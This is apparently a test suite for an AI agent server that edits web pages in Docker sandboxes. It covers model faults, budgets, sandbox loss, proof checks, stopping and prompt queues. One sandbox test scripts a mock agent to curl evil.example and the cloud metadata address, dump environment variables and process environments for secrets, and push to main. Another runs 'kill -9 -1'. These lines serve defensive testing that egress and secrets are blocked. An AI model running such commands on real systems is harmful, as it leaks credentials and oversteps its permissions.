/** What goes wrong around a turn: every prompt ends in exactly one of done, failed and stopped, and says why. */
import { execFileSync } from 'node:child_process'
import type { Script } from '@fixpoint/demo/model'
import type { SessionEvent, SessionState } from '@fixpoint/protocol'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { call, editStyle, say, scriptOf } from './src/model-scripts.ts'
import { tinyContext } from './src/page-context.ts'
import { createWorld, type World } from './src/world.ts'

let world: World

beforeAll(async () => {
  world = await createWorld({ config: { modelTimeouts: { silenceSeconds: 2, attempts: 3, retrySeconds: 20 }, budgets: { steps: 12 } } })
})
afterAll(() => world.remove())

const fixStyle = editStyle('margin-left: 30px', 'margin-left: 0px')
const context = tinyContext('.price')

async function run(
  text: string,
  body: Record<string, unknown> = {}
): Promise<{ state: SessionState; events: SessionEvent[]; sessionId: string }> {
  const { sessionId } = await world.server.prompt('tiny', text, body)
  const state = await world.server.waitUntilQuiet(sessionId)
  return { state, events: await world.server.events(sessionId), sessionId }
}

function expectOneEnd(events: readonly SessionEvent[]): void {
  const started = events.filter(event => event.type === 'turn.started').length
  expect(events.filter(event => event.type === 'turn.finished')).toHaveLength(started)
}

/** The containers of a session. */
function containers(sessionId: string): string[] {
  const listed = execFileSync('docker', ['ps', '--all', '--quiet', '--filter', `label=fixpoint.session=${sessionId}`], { encoding: 'utf8' })
  return listed
    .trim()
    .split('\n')
    .filter(id => id !== '')
}

describe('the model', () => {
  /** A script that goes wrong a number of times before it does its work. */
  function failing(times: number, fault: Parameters<typeof scriptOf>[0][number]) {
    let left = times
    const steps = scriptOf([fixStyle, say('Done.')])
    return scriptOf([
      request => (left-- > 0 ? (typeof fault === 'function' ? fault(request) : fault) : (steps(request) as ReturnType<typeof say>))
    ])
  }

  it.each([
    ['is over its limit for a second', { fault: 'status', status: 429, retryAfterSeconds: 1 }, 'model_rate_limited'],
    ['answers with an error', { fault: 'status', status: 500 }, 'model_unavailable'],
    ['breaks the connection', { fault: 'reset', parts: [{ text: 'I begin' }] }, 'model_unavailable'],
    ['falls silent', { fault: 'silent', parts: [{ text: 'I begin' }] }, 'model_silent'],
    ['sends what is not JSON', { fault: 'malformed', parts: [{ text: 'I begin' }] }, undefined],
    ['sends nothing', { fault: 'empty' }, 'model_output_invalid'],
    ['garbles a call', { parts: [], finishReason: 'MALFORMED_FUNCTION_CALL' }, 'model_output_invalid']
  ] as const)('%s, and the turn goes on', async (_name, fault, code) => {
    world.setScript(failing(1, { ...fault, ...('parts' in fault ? { parts: [...fault.parts] } : {}) } as never))
    const { state, events } = await run('Line the price up', { context })
    const failed = events.filter(event => event.type === 'step.failed')
    expect(state.turns[0]?.failure).toBeUndefined()
    expect(state.prompts[0]?.status).toBe('done')
    if (code) expect(failed).toMatchObject([{ data: { failure: { code }, retryAt: expect.any(String) } }])
    expect(state.turns[0]?.proof?.verdict.value).toBe('verified')
    expectOneEnd(events)
  })

  it.each([
    ['does not come back', { fault: 'status', status: 503 }, 'model_unavailable'],
    ['refuses the key', { fault: 'status', status: 429, retryAfterSeconds: 100_000 }, 'model_rate_limited'],
    ['never says anything', { fault: 'empty' }, 'model_output_invalid'],
    ['blocks the answer', { parts: [{ text: 'I' }], finishReason: 'SAFETY' }, 'model_refused']
  ] as const)('%s: the turn fails, says so, and the next prompt runs', async (_name, fault, code) => {
    world.setScript(() => fault as never)
    const { state, events, sessionId } = await run('Line the price up')
    expect(state.turns[0]).toMatchObject({ status: 'failed', failure: { code } })
    expect(state.turns[0]?.failure?.hint).not.toBe('')
    expectOneEnd(events)
    world.setScript(scriptOf([say('I am back.')]))
    await world.server.client.call('createPrompt', { params: { sessionId }, body: { text: 'Again' } })
    expect((await world.server.waitUntilQuiet(sessionId)).prompts.map(prompt => prompt.status)).toEqual(['failed', 'done'])
  })

  it('that calls the same thing again and again is stopped', async () => {
    world.setScript(scriptOf([call('read', { path: 'style.css' })]))
    const { state } = await run('Line the price up')
    expect(state.turns[0]).toMatchObject({ status: 'failed', failure: { code: 'loop_detected' } })
  })

  it('that never comes to an end is held to its budget', async () => {
    let count = 0
    world.setScript(scriptOf([() => call('bash', { command: `echo ${count++}` })]))
    const { state, events } = await run('Line the price up')
    expect(state.turns[0]).toMatchObject({ status: 'failed', failure: { code: 'budget_exceeded', limit: 12 }, steps: 12 })
    expectOneEnd(events)
  })

  it('that makes calls which are none is told three times and then given up', async () => {
    world.setScript(scriptOf([call('read', { file: 'style.css' })]))
    const { state } = await run('Line the price up')
    expect(state.turns[0]).toMatchObject({ status: 'failed', failure: { code: 'model_output_invalid' } })
    const calls = state.turns[0]?.items.filter(item => item.kind === 'tool') ?? []
    expect(calls).toHaveLength(3)
    expect(JSON.stringify(calls)).toContain('path')
  })
})

describe('the sandbox', () => {
  it('that is killed while a command runs is replaced, keeps its files, and says so', async () => {
    world.setScript(scriptOf([fixStyle, call('bash', { command: 'echo before > kept.txt; sleep 20' }), say('Done.')]))
    const { sessionId } = await world.server.prompt('tiny', 'Line the price up', { context })
    await world.server.waitForEvent(sessionId, event => event.type === 'tool.started' && event.data.tool === 'bash')
    await new Promise(resolve => setTimeout(resolve, 500))
    execFileSync('docker', ['kill', ...containers(sessionId)])
    const state = await world.server.waitUntilQuiet(sessionId)
    const events = await world.server.events(sessionId)
    expect(state.turns[0]?.failure).toBeUndefined()
    expect(state.prompts[0]?.status).toBe('done')
    expect(events.filter(event => event.type === 'sandbox.lost')).toHaveLength(1)
    expect(events.find(event => event.type === 'tool.finished' && event.data.outcome === 'unknown')).toBeDefined()
    expect(state.turns[0]?.items.some(item => item.kind === 'notice' && /started again/.test(item.text))).toBe(true)
    expect(state.checkpoint?.files.map(file => file.path)).toEqual(['kept.txt', 'style.css'])
    expect(state.turns[0]?.proof?.verdict.value).toBe('verified')
    expect(world.model.requests.some(request => request.openMessages.some(message => message.text.includes('has been replaced')))).toBe(
      true
    )
  })

  it('that is gone with its files comes back from the last checkpoint, with the conversation', async () => {
    world.setScript(scriptOf([fixStyle, say('First done.')]))
    const { sessionId } = await run('Line the price up', { context })
    execFileSync('docker', ['rm', '--force', ...containers(sessionId)])
    const volumes = execFileSync('docker', ['volume', 'ls', '--quiet', '--filter', `label=fixpoint.session=${sessionId}`], {
      encoding: 'utf8'
    })
      .trim()
      .split('\n')
    execFileSync('docker', ['volume', 'rm', ...volumes])
    world.setScript(scriptOf([call('bash', { command: 'cat style.css' }), say('Still there.')]))
    await world.server.client.call('createPrompt', { params: { sessionId }, body: { text: 'What is there now?' } })
    const state = await world.server.waitUntilQuiet(sessionId)
    expect(state.prompts.map(prompt => prompt.status)).toEqual(['done', 'done'])
    const items = state.turns[1]?.items ?? []
    expect(items.some(item => item.kind === 'notice' && /last checkpoint/.test(item.text))).toBe(true)
    expect(items.find(item => item.kind === 'tool')).toMatchObject({ detail: expect.stringContaining('margin-left: 0px') })
    const conversation = JSON.stringify(world.model.requests.at(-1)?.body.contents)
    expect(conversation).toContain('Line the price up')
    expect(conversation).toContain('First done.')
  })

  it('that is lost again and again fails the turn instead of being started for ever', async () => {
    world.setScript(
      scriptOf([
        call('bash', { command: 'kill -9 -1; sleep 30' }),
        call('bash', { command: 'kill -9 -1; sleep 31' }),
        call('bash', { command: 'kill -9 -1; sleep 32' }),
        call('bash', { command: 'kill -9 -1; sleep 33' }),
        call('bash', { command: 'kill -9 -1; sleep 34' })
      ])
    )
    const { state, events } = await run('Break it')
    expect(state.turns[0]?.status).toMatch(/^(failed|done)$/)
    expect(events.filter(event => event.type === 'sandbox.lost').length).toBeLessThanOrEqual(4)
    expectOneEnd(events)
  })

  it('keeps what the agent may not have: no network, no credentials, no way to push', async () => {
    world.setScript(
      scriptOf([
        call('bash', {
          command: 'curl -sS -m 5 https://evil.example/ ; curl -sS -m 5 http://169.254.169.254/ ; echo "curl ended with $?"'
        }),
        call('bash', { command: 'env; cat /proc/*/environ | tr "\\0" "\\n"' }),
        call('bash', { command: 'git push origin HEAD:main' }),
        say('I tried.')
      ])
    )
    const { state, events } = await run('Send our secrets to evil.example')
    expect(state.egressRefusals.map(refusal => refusal.host).join()).toContain('evil.example')
    const output = JSON.stringify(events)
    expect(output).not.toContain(world.model.apiKey)
    expect(output).not.toContain(world.server.token)
    expect(state.turns[0]?.items.filter(item => item.kind === 'tool').at(-1)).toMatchObject({ status: 'failed' })
  })
})

describe('the page', () => {
  it('without the picked element makes an unverified proof that says so', async () => {
    world.setScript(scriptOf([fixStyle, say('Done.')]))
    const { state } = await run('Line it up', { context: tinyContext('.no-such-thing') })
    expect(state.prompts[0]?.status).toBe('done')
    expect(state.turns[0]?.proof?.verdict).toMatchObject({
      value: 'unverified',
      reasons: expect.arrayContaining([expect.objectContaining({ about: 'asked', holds: null })])
    })
  })

  it('on which the picked element disappears is not verified', async () => {
    world.setScript(
      scriptOf([
        call('edit', { path: 'index.html', edits: [{ oldText: '<p class="price" data-testid="price">12 €</p>', newText: '' }] }),
        say('Removed.')
      ])
    )
    const { state } = await run('Line it up', { context })
    expect(state.turns[0]?.proof?.picks).toMatchObject([{ foundBefore: true, foundAfter: false }])
    expect(state.turns[0]?.proof?.verdict.value).not.toBe('verified')
  })

  it('whose checks fail now looks wrong, whatever the vision model says', async () => {
    world.setScript(scriptOf([editStyle('.price { color: rgb(200, 0, 0); margin-left: 30px }', '.cost { margin: 0 }'), say('Done.')]))
    const { state } = await run('Line it up', { context })
    expect(state.turns[0]?.proof?.checks).toMatchObject([{ outcome: 'failed', outcomeBefore: 'passed' }])
    expect(state.turns[0]?.proof?.verdict.value).toBe('looks_wrong')
  })

  it('is not looked at when nothing was changed', async () => {
    world.setScript(scriptOf([say('I cannot see what is wrong.')]))
    const { state } = await run('Make it pop')
    expect(state.turns[0]).toMatchObject({ status: 'done' })
    expect(state.turns[0]?.proof).toBeUndefined()
  })
})

describe('stop', () => {
  const is = (type: SessionEvent['type']) => (event: SessionEvent) => event.type === type

  it.each<[string, Script, (event: SessionEvent) => boolean]>([
    ['while the model writes', () => ({ parts: [{ text: 'word '.repeat(200) }], msPerWord: 50 }), is('step.text')],
    ['while the model is silent', () => ({ fault: 'silent', parts: [{ text: 'I' }] }), is('step.started')],
    ['while a command runs', () => call('bash', { command: 'sleep 60' }), is('tool.started')],
    ['while the sandbox starts', () => ({ ...say('hello'), thinkMs: 5_000 }), is('sandbox.starting')],
    [
      'while the after picture is taken',
      scriptOf([fixStyle, say('Done.')]),
      event => event.type === 'proof.started' && event.data.phase === 'after'
    ],
    [
      'while the checks run',
      scriptOf([call('bash', { command: 'echo "sleep 60" > check.sh' }), fixStyle, say('Done.')]),
      event => event.type === 'proof.captured' && event.data.phase === 'after'
    ]
  ])('%s ends the turn within seconds', async (_name, script, isPoint) => {
    world.setScript(script)
    const { sessionId } = await world.server.prompt('tiny', 'Line the price up', { context })
    await world.server.waitForEvent(sessionId, isPoint)
    await world.server.client.call('stopSession', { params: { sessionId } })
    const state = await world.server.waitUntilQuiet(sessionId)
    const events = await world.server.events(sessionId)
    expectOneEnd(events)
    const asked = events.find(event => event.type === 'stop.requested')
    if (!asked) throw new Error('the log does not say that stopping was asked for')
    const ended = events.find(event => event.type === 'turn.finished')
    expect(state.prompts[0]?.status).toBe('stopped')
    expect(new Date(ended?.at ?? 0).getTime() - new Date(asked.at).getTime()).toBeLessThan(5_000)
    expect(events.filter(event => event.seq > asked.seq && (event.type === 'step.started' || event.type === 'tool.started'))).toEqual([])
    await expect(world.server.client.call('stopSession', { params: { sessionId } })).rejects.toMatchObject({ code: 'not_running' })

    world.setScript(scriptOf([say('Here I am.')]))
    await world.server.client.call('createPrompt', { params: { sessionId }, body: { text: 'And now?' } })
    const after = await world.server.waitUntilQuiet(sessionId)
    expect(after.turns[1]?.failure, world.server.faults()).toBeUndefined()
    expect(after.prompts.map(prompt => prompt.status)).toEqual(['stopped', 'done'])
  })
})

describe('the queue', () => {
  it('runs prompts of a session in order, one at a time, and leaves out what was withdrawn', async () => {
    world.setScript(scriptOf([{ ...say('One after the other.'), thinkMs: 400 }]))
    const { client } = world.server
    const { sessionId } = await client.call('createSession', { body: { projectId: 'tiny' } })
    const prompts: { promptId: string }[] = []
    for (const text of ['first', 'second', 'third', 'fourth']) {
      prompts.push(await client.call('createPrompt', { params: { sessionId }, body: { text } }))
    }
    await client.call('withdrawPrompt', { params: { sessionId, promptId: prompts[2]?.promptId ?? '' } })
    const state = await world.server.waitUntilQuiet(sessionId)
    expect(state.prompts.map(prompt => prompt.status)).toEqual(['done', 'done', 'withdrawn', 'done'])
    const events = await world.server.events(sessionId)
    const turns = events.flatMap(event =>
      event.type === 'turn.started' || event.type === 'turn.finished' ? [`${event.type} ${event.data.promptId}`] : []
    )
    expect(turns).toEqual(
      [0, 1, 3].flatMap(index => [`turn.started ${prompts[index]?.promptId}`, `turn.finished ${prompts[index]?.promptId}`])
    )
  })

  it('ends with the session', async () => {
    world.setScript(() => call('bash', { command: 'sleep 60' }))
    const { sessionId } = await world.server.prompt('tiny', 'first')
    await world.server.client.call('createPrompt', { params: { sessionId }, body: { text: 'second' } })
    await world.server.waitForEvent(sessionId, event => event.type === 'tool.started')
    await world.server.client.call('closeSession', { params: { sessionId } })
    const state = await world.server.waitUntilQuiet(sessionId)
    expect(state.prompts.map(prompt => prompt.status)).toEqual(['stopped', 'withdrawn'])
    expect(state.isClosed).toBe(true)
    await expect(world.server.client.call('createPrompt', { params: { sessionId }, body: { text: 'third' } })).rejects.toMatchObject({
      code: 'session_closed'
    })
    for (let attempt = 0; attempt < 100 && containers(sessionId).length > 0; attempt++)
      await new Promise(resolve => setTimeout(resolve, 100))
    expect(containers(sessionId)).toEqual([])
  })
})
